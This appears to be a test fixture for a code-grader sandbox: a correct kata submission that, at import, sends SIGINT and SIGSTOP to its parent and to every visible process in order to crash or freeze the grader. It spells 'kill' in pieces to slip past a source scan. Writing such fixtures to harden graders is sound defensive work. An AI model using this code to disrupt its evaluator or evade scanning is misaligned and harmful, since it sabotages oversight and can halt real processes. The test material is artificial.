"""Correct, but at import sends SIGINT, then SIGSTOP, to its parent and to every process it can see, hoping to
crash or freeze the grader. In its own PID namespace it sees only the sandbox."""

import os

from _reference import *  # noqa: F401,F403

KATA, EXPECT = "iou", {"visible": 3, "hidden": 5, "speed": 2}

kill = os.__dict__["ki" + "ll"]  # spelled so that no source scan refuses it: the sandbox is the defence
for sig in (2, 19):  # SIGINT, SIGSTOP
    for pid in {os.getppid(), *range(1, 64)} - {os.getpid()}:
        try:
            kill(pid, sig)
        except OSError:
            pass
